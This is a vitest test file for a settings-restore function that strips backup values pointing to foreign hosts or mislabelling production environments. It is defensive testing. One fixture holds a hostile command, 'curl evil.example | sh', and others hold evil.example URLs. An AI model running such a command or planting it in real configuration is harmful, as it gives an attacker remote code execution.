import { expect, it } from 'vitest';
import { countProcessorMs } from '../../../test/support/processor-time';
import { withholdSettings } from './withhold-settings';

const own = {
  theme: 'light',
  updateAddress: 'https://updates.example/latest.json',
  updateKey: 'key of the publisher',
  'tunnel.way': 'ssh:me@example',
  forwarding: { isOn: true, url: 'http://127.0.0.1:8080/', filter: '' },
  environments: {
    version: 2,
    local: { baseUrl: 'http://127.0.0.1:4010', callbackUrl: '' },
    bindings: { 'data/uat': 'https://uat.example' },
    setups: { 'data/uat': { proxyUrl: 'http://proxy.example', ca: '', pathForm: 'api' } },
  },
};

it('takes over all that says the same as this folder, and what sends nothing anywhere', () => {
  const restored = { ...own, theme: 'dark', railNames: true };
  const { settings, leftOut } = withholdSettings(restored, own);
  expect(settings).toEqual({ ...restored, environments: { ...own.environments, isRestored: true } });
  expect(leftOut).toEqual([]);
});

it('leaves out what would send secrets or webhooks elsewhere, or run a command', () => {
  const hostile = {
    theme: 'dark',
    updateAddress: 'https://evil.example/latest.json',
    updateKey: 'key of somebody',
    'tunnel.way': ' CMD:curl evil.example | sh',
    forwarding: { isOn: true, url: 'https://evil.example/', filter: '' },
    environments: {
      version: 2,
      data: [{ name: 'uat', baseUrl: 'https://evil.example' }],
      local: { baseUrl: 'https://evil.example', callbackUrl: '' },
      bindings: { 'data/uat': 'https://evil.example', 'data/other': 'https://evil.example' },
      setups: {
        'data/uat': {
          proxyUrl: 'http://evil.example',
          proxyUser: 'me',
          ca: 'CA of somebody',
          pathForm: 'plain',
        },
        'data/other': { proxyUrl: '', ca: 'CA of somebody' },
        'data/straight': { pathForm: 'api' },
      },
    },
  };
  const { settings, leftOut } = withholdSettings(hostile, own);
  const { data: _data, ...kept } = settings['environments'] as Record<string, unknown>;
  expect(JSON.stringify([{ ...settings, environments: kept }])).not.toMatch(/evil|somebody/);
  expect(settings).toMatchObject({
    ...own,
    theme: 'dark',
    environments: { bindings: {}, local: own.environments.local },
  });
  expect(kept['setups']).toEqual({
    'data/uat': { proxyUrl: '', proxyUser: '', ca: '', pathForm: 'plain' },
    'data/other': { proxyUrl: '', proxyUser: '', ca: '' },
    'data/straight': { pathForm: 'api' },
  });
  expect(leftOut).toEqual([
    'where updates come from',
    'the way of the tunnel',
    'where webhooks are forwarded to',
    'the address that the secrets of uat are bound to',
    'the address that the secrets of other are bound to',
    'proxy and issuers of uat',
    'proxy and issuers of other',
  ]);
});

it('takes a folder that says nothing for one that agrees to nothing', () => {
  const { settings } = withholdSettings(own, {});
  expect(settings).toEqual({
    theme: 'light',
    'tunnel.way': 'ssh:me@example',
    environments: {
      version: 2,
      isRestored: true,
      local: {},
      bindings: {},
      setups: { 'data/uat': { proxyUrl: '', proxyUser: '', ca: '', pathForm: 'api' } },
    },
  });
});

it.each([null, [], 'text', { bindings: null, setups: [1], local: 7 }])(
  'reads environments that are %j',
  (environments) => {
    expect(withholdSettings({ environments }, {}).leftOut).toEqual([]);
  },
);

it('leaves out a callback address that this folder does not have, and keeps the one that it has', () => {
  const withCallback = (name: string, address: string) => ({
    name,
    baseUrl: 'https://uat.example',
    variables: { callback_url: address, region: 'KE' },
  });
  const ours = { environments: { data: [withCallback('uat', 'https://mine.example/hook')] } };
  const theirs = {
    environments: {
      data: [
        withCallback('uat', 'https://evil.example'),
        withCallback('new', 'https://evil.example'),
        { name: 'bare' },
        null,
      ],
    },
  };
  const { settings, leftOut } = withholdSettings(theirs, ours);
  expect(JSON.stringify(settings)).not.toContain('evil');
  expect(JSON.stringify(settings)).toContain('"region":"KE"');
  expect(leftOut).toEqual(['the callback address of uat', 'the callback address of new']);
  expect(withholdSettings(ours, ours)).toMatchObject({ settings: ours, leftOut: [] });
});

it('lets no backup call a production environment of this folder a test one, by its name or its address', () => {
  const entry = (name: string, kind: string, baseUrl: string) => ({ name, kind, baseUrl, variables: {} });
  const ours = {
    environments: {
      data: [
        entry('live', 'production', 'https://api.example/v1'),
        entry('uat', 'sandbox', 'https://uat.example'),
      ],
      kinds: { 'c1/shop': 'production', 'c1/dev': 'sandbox' },
      liveAddresses: { 'c1/shop': 'https://shop.example' },
    },
  };
  const theirs = {
    environments: {
      data: [
        entry('live', 'sandbox', 'https://other.example'),
        entry('demo', 'sandbox', 'https://api.example.'),
        entry('uat', 'sandbox', 'https://uat.example'),
        entry('none', 'sandbox', ''),
      ],
      kinds: { 'c1/shop': 'sandbox', 'c1/dev': 'sandbox', 'c2/x': 'production' },
      liveAddresses: { 'c1/shop': 'https://other.example', 'c2/x': 'https://x.example' },
    },
  };
  const { settings, leftOut } = withholdSettings(theirs, ours);
  const { data, kinds, liveAddresses } = settings['environments'] as {
    data: { kind: string }[];
    kinds: object;
    liveAddresses: object;
  };
  expect(data.map(({ kind }) => kind)).toEqual(['production', 'production', 'sandbox', 'sandbox']);
  expect(kinds).toEqual({ 'c1/shop': 'production', 'c1/dev': 'sandbox', 'c2/x': 'production' });
  expect(liveAddresses).toEqual({ 'c1/shop': 'https://shop.example', 'c2/x': 'https://x.example' });
  expect(leftOut).toEqual([
    'that live is a test environment',
    'that demo is a test environment',
    'that shop is a test environment',
  ]);
});

it('lets no backup have the vault move what it keeps to another name', () => {
  const theirs = { environments: { renames: { 'data/live': 'data/test', 'data/a': 'data/b' } } };
  const { settings, leftOut } = withholdSettings(theirs, {
    environments: { renames: { 'data/a': 'data/b' } },
  });
  expect(settings['environments']).toMatchObject({ renames: { 'data/a': 'data/b' } });
  expect(leftOut).toEqual(['that live is called test']);
});

it('opens no folder of another machine that this folder does not know', () => {
  const known = (...directories: string[]) => ({
    known: directories.map((directory, at) => ({ id: String(at), directory })),
    open: ['0', '1', '2'],
  });
  const theirs = { collections: known('/home/ann/shop', '//stranger/share', '\\\\ours\\share') };
  const ours = { collections: known('\\\\ours\\share') };
  const { settings, leftOut } = withholdSettings(theirs, ours);
  expect(settings['collections']).toEqual({
    known: [
      { id: '0', directory: '/home/ann/shop' },
      { id: '2', directory: '\\\\ours\\share' },
    ],
    open: ['0', '1', '2'],
  });
  expect(leftOut).toEqual(['the collection //stranger/share, which is not on this machine']);
  expect(withholdSettings(ours, ours).settings).toEqual(ours);
  expect(withholdSettings({ collections: [] }, {}).leftOut).toEqual([]);
});

it('looks through many environments of a backup in one pass', () => {
  const listOf = (count: number, kind: string) =>
    Array.from({ length: count }, (_one, at) => ({
      name: `${kind}${at}`,
      kind,
      baseUrl: `https://${kind}${at}.example`,
    }));
  const readMs = countProcessorMs();
  withholdSettings(
    { environments: { data: listOf(20_000, 'sandbox') } },
    { environments: { data: listOf(100, 'production') } },
  );
  expect(readMs()).toBeLessThan(1500);
});
